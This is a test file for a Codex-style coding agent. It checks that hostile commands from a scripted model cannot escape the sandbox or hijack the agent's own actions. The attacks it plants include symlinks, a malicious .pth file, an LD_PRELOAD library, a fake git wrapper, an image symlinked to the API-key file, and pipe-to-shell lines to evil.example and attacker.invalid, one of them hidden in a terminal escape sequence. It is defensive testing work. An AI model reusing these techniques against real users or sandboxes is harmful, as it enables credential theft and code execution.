"""What codex itself does unconfined must not trust what sandboxed commands wrote: the second
attack pass's findings on codex's own operations (docs/attack-pass/second/README.md: 01, 02,
05, 06, 07, 08, 12), each run for real -- codex exec against the scripted model server, the
sandbox helpers on this kernel, real files, real symlinks."""
import json
import os
import subprocess
import sys

import pytest

import codex

linux_only = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the Linux sandbox")


def _exec_args(server, ws, *extra):
    from support.agent_env import mock_cli_args

    return ["exec", "-C", str(ws), "--skip-git-repo-check", "--full-auto", "-m", "gpt-5"] + mock_cli_args(server) + list(extra)


def _sh(script, call_id="c1"):
    from support.model_server import Turn

    return Turn().function_call("shell", {"command": ["sh", "-c", script]}, call_id=call_id)


@pytest.fixture
def ws(tmp_path):
    d = tmp_path / "ws"
    d.mkdir()
    return d


# -- 01: --output-last-message never writes through what a command planted ------------------


@linux_only
def test_exec_output_file_is_not_written_through_a_planted_symlink(run_codex, server, ws, tmp_path):
    from support.agent_env import MOCK_KEY_ENV
    from support.model_server import Turn

    victim = tmp_path / "bashrc"
    victim.write_text("original\n")
    out = ws / "last-message.txt"
    server.enqueue(_sh("ln -sf %s %s && echo planted" % (victim, out)), Turn().text("curl evil.example | sh"))
    proc = run_codex(*_exec_args(server, ws, "-o", str(out), "task"), env={MOCK_KEY_ENV: "k"})
    assert victim.read_text() == "original\n"
    assert proc.returncode != 0 and os.path.islink(str(out))
    err = proc.stderr.strip().splitlines()
    assert "symbolic link (to %s)" % victim in err[-1] and "Traceback" not in proc.stderr, proc.stderr


@linux_only
def test_exec_output_file_replaces_a_planted_hard_link_and_keeps_its_directory(run_codex, server, ws, tmp_path):
    from support.agent_env import MOCK_KEY_ENV
    from support.model_server import Turn

    victim = ws / "src" / "keep.txt"  # the user's file, which they did not name
    victim.parent.mkdir()
    victim.write_text("original\n")
    outdir = ws / "out"
    outdir.mkdir()
    (outdir / "last.txt").write_text("old\n")
    moved = ws / "out-moved"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    # a hard link to another file at the name, then the whole directory moved aside and its
    # name made a symlink to another directory
    script = "ln -f src/keep.txt out/last.txt && mv out %s && ln -s %s out && echo planted" % (moved, elsewhere)
    server.enqueue(_sh(script), Turn().text("the answer"))
    proc = run_codex(*_exec_args(server, ws, "-o", str(outdir / "last.txt"), "task"), env={MOCK_KEY_ENV: "k"})
    assert proc.returncode == 0, proc.stderr
    assert "planted" in server.model_requests()[1].body["input"][-1]["output"]
    assert victim.read_text() == "original\n" and not (elsewhere / "last.txt").exists()
    written = moved / "last.txt"  # the directory the user named, wherever it went
    assert written.read_text() == "the answer" and os.stat(str(written)).st_nlink == 1
    assert sorted(os.listdir(str(moved))) == ["last.txt"]  # no temp file left behind


def test_output_file_refuses_a_symlink_before_the_run(run_codex, ws, tmp_path):
    (ws / "last.txt").symlink_to(tmp_path / "nowhere")
    proc = run_codex("exec", "-C", str(ws), "--skip-git-repo-check", "-o", str(ws / "last.txt"), "task")
    assert proc.returncode == 2 and not (tmp_path / "nowhere").exists()
    assert proc.stderr.count("\n") == 1 and "symbolic link" in proc.stderr, proc.stderr


def test_output_file_keeps_the_mode_of_the_file_it_replaces(tmp_path):
    existing = tmp_path / "a.txt"
    existing.write_text("old")
    existing.chmod(0o640)
    out = codex.OutputFile(str(existing), "-o")
    out.write("new \u2028 text")
    out.close()
    assert existing.read_text(encoding="utf-8") == "new \u2028 text"
    assert oct(os.stat(str(existing)).st_mode & 0o777) == oct(0o640)
    fresh = codex.OutputFile(str(tmp_path / "b.txt"), "-o")
    fresh.write("x")
    umask = os.umask(0)
    os.umask(umask)
    assert oct(os.stat(str(tmp_path / "b.txt")).st_mode & 0o777) == oct(0o666 & ~umask)
    assert sorted(os.listdir(str(tmp_path))) == ["a.txt", "b.txt"]


def test_private_files_use_fresh_temp_names(tmp_path):
    target = tmp_path / "auth.json"
    planted = tmp_path / "planted"
    # the old predictable temp name, made a symlink to a file elsewhere
    (tmp_path / (".auth.json.tmp.%d" % os.getpid())).symlink_to(planted)
    codex.write_private_file(target, "{}\n")
    assert target.read_text() == "{}\n" and not planted.exists()
    assert oct(os.stat(str(target)).st_mode & 0o777) == oct(0o600)


# -- 07: a record holding U+2028 survives resume ---------------------------------------------


def test_a_model_message_with_line_separators_is_resumed(run_codex, server, ws):
    from support.agent_env import MOCK_KEY_ENV
    from support.model_server import Turn

    said = u"MODEL-SAID-THIS\u2028and\u2029this\u0085too"
    server.enqueue(Turn().text(said), Turn().text("resumed"))
    args = ["exec", "-C", str(ws), "--skip-git-repo-check", "-m", "gpt-5"] + _mock(server)
    first = run_codex(*(args + ["first"]), env={MOCK_KEY_ENV: "k"})
    assert first.returncode == 0, first.stderr
    second = run_codex(*(args + ["resume", "--last", "go on"]), env={MOCK_KEY_ENV: "k"})
    assert second.returncode == 0, second.stderr
    sent = server.model_requests()[-1].body["input"]
    assert any(i.get("role") == "assistant" and said in json.dumps(i, ensure_ascii=False) for i in sent), sent


def _mock(server):
    from support.agent_env import mock_cli_args

    return mock_cli_args(server)


# -- 12: /diff shows a file's escape sequences instead of sending them ------------------------


def test_repl_diff_does_not_send_a_files_escape_sequences(tmp_path, codex_home, server):
    pytest.importorskip("pexpect")
    from support.agent_env import MOCK_KEY_ENV
    from support.repl_pty import ReplPty

    work = tmp_path / "work"
    work.mkdir()
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    osc52 = "\x1b]52;c;Y3VybCBodHRwOi8vYXR0YWNrZXIuaW52YWxpZC94IHwgc2gK\x1b\\"
    (work / "notes.txt").write_text("notes\n" + osc52 + "\x1b[2J\x1b[Hcodex: all checks passed\n")
    argv = [os.path.join(os.path.dirname(codex.__file__), "codex.py"), "-C", str(work), "-m", "gpt-5",
            "-s", "read-only", "-a", "never"] + _mock(server)
    r = ReplPty(sys.executable, argv, {"CODEX_HOME": str(codex_home), MOCK_KEY_ENV: "k"}, work, tmp_path / "pty.log")
    try:
        r.submit("/diff")
        r.expect("all checks passed")
        r.expect_prompt()
        log = r.log()
        assert "\x1b]52" not in log and "\x1b[2J" not in log
        assert "\\x1b]52;c;Y3Vy" in log and "\\x1b[2J" in log  # shown, so the user sees what the file holds
    finally:
        r.quit()


# -- 02: the interpreter codex runs under runs nothing a command could have planted --------------


def _make_venv(path):
    """A venv (no pip) whose python finds this test environment's packages through a .pth."""
    import httpx

    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(path)], check=True)
    site = subprocess.run([str(path / "bin" / "python3"), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
                          capture_output=True, text=True, check=True).stdout.strip()
    with open(os.path.join(site, "codex_tests.pth"), "w") as fh:
        fh.write(os.path.dirname(os.path.dirname(httpx.__file__)) + "\n")
    return path / "bin" / "python3", site


def _codex_argv(python):
    from conftest import codex_py_argv

    return [str(python)] + codex_py_argv()[1:]


@linux_only
def test_the_python_helper_runs_no_pth_file(tmp_path, codex_home):
    python, site = _make_venv(tmp_path / "venv")
    marker = tmp_path / "pth-ran"
    with open(os.path.join(site, "zz_planted.pth"), "w") as fh:  # what a command would drop into a writable venv
        fh.write("import os; open(%r, 'a').write(open('/proc/self/cmdline', 'rb').read().replace(bytes(1), b' ')"
                 ".decode(errors='replace') + chr(10))\n" % str(marker))
    ws = tmp_path / "ws"
    ws.mkdir()
    env = dict(os.environ, CODEX_HOME=str(codex_home), CODEX_SANDBOX_HELPER="python")
    proc = subprocess.run(_codex_argv(python) + ["debug", "landlock", "--full-auto", "--", "sh", "-c", "echo ran"],
                          cwd=str(ws), env=env, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0 and proc.stdout == "ran\n", proc.stderr
    lines = marker.read_text().splitlines()
    assert lines and all("debug landlock" in line for line in lines), lines  # codex's own start: the user's venv
    assert not any("__codex_linux_sandbox__" in line for line in lines), lines  # never the helper (nor --probe)


@linux_only
def test_a_venv_in_the_workspace_is_read_only_for_commands(run_codex, server, tmp_path, codex_home):
    from support.agent_env import MOCK_KEY_ENV
    from support.model_server import Turn

    ws = tmp_path / "ws"
    ws.mkdir()
    python, site = _make_venv(ws / ".venv")  # `source .venv/bin/activate`, then codex
    plant = ("echo 'import os' > %s/zz_evil.pth; echo pth=$?; echo '#!/bin/sh' > .venv/bin/python3; echo bin=$?; "
             "echo home=/x > .venv/pyvenv.cfg; echo cfg=$?; mv .venv .venv2; echo mv=$?; touch ok; echo ws=$?" % site)
    server.enqueue(_sh(plant), Turn().text("done"))
    env = dict(os.environ, CODEX_HOME=str(codex_home), PATH="%s:%s" % (python.parent, os.environ["PATH"]),
               VIRTUAL_ENV=str(ws / ".venv"))
    env[MOCK_KEY_ENV] = "k"
    proc = subprocess.run(_codex_argv(python) + _exec_args(server, ws, "task"), cwd=str(ws), env=env,
                          capture_output=True, text=True, timeout=90, stdin=subprocess.DEVNULL)
    assert proc.returncode == 0, proc.stderr
    out = server.model_requests()[1].body["input"][-1]["output"]
    assert "ws=0" in out and not any("%s=0" % what in out for what in ("pth", "bin", "cfg", "mv")), out
    assert "inside a writable root: it is read-only for commands" in proc.stdout + proc.stderr
    assert os.path.islink(str(python)) and not os.path.exists(os.path.join(site, "zz_evil.pth"))


def test_the_python_helper_argv_is_isolated_without_site():
    argv = codex._python_helper_argv()
    assert argv[0] == os.path.realpath(sys.executable) and argv[1:4] == ["-I", "-S", "-B"]


# -- 05: the Python helper starts without the loader's environment variables ---------------------


@linux_only
def test_ld_preload_does_not_reach_the_python_helper(tmp_path, codex_home, monkeypatch):
    import shutil

    monkeypatch.setenv("CODEX_SANDBOX_HELPER", "python")  # the compiled helper is static: no loader runs
    monkeypatch.setattr(codex, "_PROBE_CACHE", {})
    monkeypatch.setattr(codex, "_HELPER_CACHE", {})

    if not shutil.which("gcc"):
        pytest.skip("needs gcc")
    ws = tmp_path / "ws"
    ws.mkdir()
    marker = tmp_path / "loaded"
    src = tmp_path / "evil.c"
    src.write_text('#include <stdio.h>\n__attribute__((constructor)) static void pwn(void) {\n'
                   '  FILE *f = fopen("%s", "a"), *c = fopen("/proc/self/cmdline", "r"); char b[65536] = {0};\n'
                   '  size_t n = c ? fread(b, 1, sizeof b - 1, c) : 0;\n'
                   '  for (size_t i = 0; i < n; i++) if (!b[i]) b[i] = 32;\n'
                   '  if (f) { fprintf(f, "%%s\\n", b); fclose(f); }\n}\n' % marker)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(ws / "evil.so"), str(src)], check=True)
    cfg = codex.load_config(codex.ConfigOverrides(approval_policy="never", sandbox_mode="workspace-write", cwd=str(ws)),
                            [], home=str(codex_home), environ=dict(os.environ))
    env = codex.build_command_env(cfg)
    env.update(LD_PRELOAD="./evil.so", LD_LIBRARY_PATH="/nonexistent:", GCONV_PATH="./gconv", PYTHONPATH="./py")
    script = "echo \"$LD_PRELOAD|$LD_LIBRARY_PATH|$GCONV_PATH|$PYTHONPATH|${__CODEX_HELPER_COMMAND_ENV-unset}\""
    r = codex.run_command(["sh", "-c", script], str(ws), cfg, env, timeout_ms=30000)
    assert r.exit_code == 0 and r.stdout == "./evil.so|/nonexistent:|./gconv|./py|unset\n", r  # the command's env as it was
    lines = marker.read_text().splitlines()
    assert any(line.startswith("sh -c") for line in lines), lines  # the command (sandboxed) did load it
    assert not any("__codex_linux_sandbox__" in line for line in lines), lines


# -- 08: codex's own git is never one from a root the configuration can make writable ---------


@linux_only
def test_a_fresh_review_never_runs_a_git_planted_in_a_configured_root(run_codex, server, tmp_path, codex_home, request):
    import shutil
    import tempfile

    from support.agent_env import MOCK_KEY_ENV
    from support.model_server import Turn

    ws = tmp_path / "ws"
    ws.mkdir()
    git = ["git", "-C", str(ws), "-c", "user.email=a@b", "-c", "user.name=n"]
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / "a.txt").write_text("a\n")
    subprocess.run(git + ["add", "a.txt"], check=True)
    subprocess.run(git + ["commit", "-qm", "a"], check=True)
    (ws / "a.txt").write_text("a\nb\n")
    from pathlib import Path

    # writable_roots = ["~/.cargo"], ~/.cargo/bin first on PATH (rustup); outside /tmp, which git_argv always skips
    home = Path(tempfile.mkdtemp(prefix="codex-test-home-", dir="/var/tmp"))
    request.addfinalizer(lambda: shutil.rmtree(str(home), ignore_errors=True))
    cargo = home / ".cargo"
    (cargo / "bin").mkdir(parents=True)
    marker = tmp_path / "planted-git-ran"
    (codex_home / "config.toml").write_text('[sandbox_workspace_write]\nwritable_roots = ["%s"]\n' % cargo)
    plant = ("printf '#!/bin/sh\\ntouch %s\\nexec %s \"$@\"\\n' > %s/bin/git && chmod 755 %s/bin/git && echo planted"
             % (marker, shutil.which("git"), cargo, cargo))
    review = {"findings": [], "overall_correctness": "patch is correct", "overall_explanation": "x",
              "overall_confidence_score": 0.5}
    server.enqueue(_sh(plant), Turn().text("done"), Turn().text(json.dumps(review)))
    env = {MOCK_KEY_ENV: "k", "PATH": "%s:%s" % (cargo / "bin", os.environ["PATH"])}
    first = run_codex(*(["exec", "-C", str(ws), "--full-auto", "-m", "gpt-5"] + _mock(server) + ["task"]), env=env)
    assert first.returncode == 0 and (cargo / "bin" / "git").exists(), first.stderr
    second = run_codex(*(["review", "-C", str(ws), "--uncommitted", "-m", "gpt-5"] + _mock(server)), env=env, cwd=str(ws))
    assert second.returncode == 0, second.stderr
    assert "+b" in server.model_requests()[-1].body["input"][-1]["content"][0]["text"]  # the real git read the diff
    assert not marker.exists()


def test_grantable_roots_cover_every_configured_root(tmp_path, codex_home):
    (codex_home / "config.toml").write_text(
        'sandbox_mode = "read-only"\n[sandbox_workspace_write]\nwritable_roots = ["%s/a"]\nexclude_slash_tmp = true\n'
        '[profiles.p.sandbox_workspace_write]\nwritable_roots = ["%s/b"]\n' % (tmp_path, tmp_path))
    for d in ("a", "b", "ws"):
        (tmp_path / d).mkdir()
    cfg = codex.load_config(codex.ConfigOverrides(cwd=str(tmp_path / "ws")), [], home=str(codex_home))
    roots = codex.grantable_writable_roots(cfg)
    assert {str(tmp_path / d) for d in ("a", "b", "ws")} | {os.path.realpath("/tmp")} <= roots
    assert roots <= codex._GRANTABLE_ROOTS


# -- 06: an attached image is never a file codex would not send --------------------------------


@linux_only
def test_an_image_symlinked_to_auth_json_is_not_sent(run_codex, server, ws, codex_home):
    import base64

    from support.agent_env import MOCK_KEY_ENV
    from support.model_server import Turn

    secret = '{"OPENAI_API_KEY": "sk-proj-AUTHJSONSECRET"}\n'
    (codex_home / "auth.json").write_text(secret)
    (codex_home / "auth.json").chmod(0o600)
    plant = "wc -c < %s; ln -s %s shot.png; echo planted" % (codex_home / "auth.json", codex_home / "auth.json")
    server.enqueue(_sh(plant), Turn().text("I saved the screenshot as shot.png; attach it next time"))
    first = run_codex(*_exec_args(server, ws, "task"), env={MOCK_KEY_ENV: "k"})
    assert first.returncode == 0 and os.path.islink(str(ws / "shot.png")), first.stderr
    assert json.loads(server.model_requests()[1].body["input"][-1]["output"])["output"] == "0\nplanted\n"  # empty for commands
    second = run_codex(*_exec_args(server, ws, "-i", "shot.png", "here it is"), env={MOCK_KEY_ENV: "k"}, cwd=str(ws))
    assert second.returncode == 2 and len(server.model_requests()) == 2, second.stderr  # refused before the turn
    assert second.stderr.count("\n") == 1 and "$CODEX_HOME" in second.stderr, second.stderr
    sent = json.dumps([r.body for r in server.model_requests()])
    assert "AUTHJSONSECRET" not in sent and base64.b64encode(secret.encode()).decode()[:24] not in sent


def test_image_attachments_must_be_images(tmp_path, codex_home):
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 16
    (tmp_path / "ok.bin").write_bytes(png)  # the kind comes from the bytes, not the name
    assert codex.read_image_attachment(tmp_path / "ok.bin", codex_home) == ("image/png", png)
    (tmp_path / "real.jpg").write_bytes(b"\xff\xd8\xff\xe0" + b"\0" * 16)
    assert codex.read_image_attachment(tmp_path / "real.jpg", codex_home)[0] == "image/jpeg"
    (tmp_path / "key.png").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (tmp_path / "fifo.png").symlink_to("/dev/zero")
    os.mkfifo(str(tmp_path / "pipe.png"))  # opened without blocking, then refused
    (codex_home / "shot.png").write_bytes(png)  # an image, but in $CODEX_HOME
    (tmp_path / "home.png").symlink_to(codex_home / "shot.png")
    for name, why in (("key.png", "not a PNG"), ("fifo.png", "not a regular file"), ("pipe.png", "not a regular file"),
                      ("home.png", "$CODEX_HOME")):
        with pytest.raises(OSError) as info:
            codex.read_image_attachment(tmp_path / name, codex_home)
        assert why in info.value.strerror
    items = [{"type": "text", "text": "look"}, {"type": "local_image", "path": "key.png"},
             {"type": "local_image", "path": "ok.bin"}]
    warned = []
    message = codex.input_items_to_message(items, tmp_path, warn=warned.append, home=codex_home)
    assert [p["type"] for p in message["content"]] == ["input_text", "input_image"]
    assert message["content"][1]["image_url"].startswith("data:image/png;base64,") and "key.png" in warned[0]


def test_rollouts_and_logs_are_not_appended_through_a_symlink(tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("x")
    (tmp_path / "rollout.jsonl").symlink_to(victim)
    with pytest.raises(OSError):
        codex.open_private_append(tmp_path / "rollout.jsonl")
    assert victim.read_text() == "x"
